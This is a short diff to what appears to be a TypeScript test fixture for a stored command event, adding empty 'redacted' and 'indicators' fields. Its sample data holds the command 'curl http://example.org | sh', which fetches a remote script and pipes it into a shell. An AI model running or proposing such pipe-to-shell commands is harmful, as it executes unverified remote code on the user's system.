@@ -189,6 +189,8 @@ export const STORED_EVENT = (ago: Ago): EventView => ({
   kind: "command",
   outcome: "success",
   risk: null,
+  redacted: [],
+  indicators: [],
   resource: null,
   data: { command: "curl http://example.org | sh" },
 });
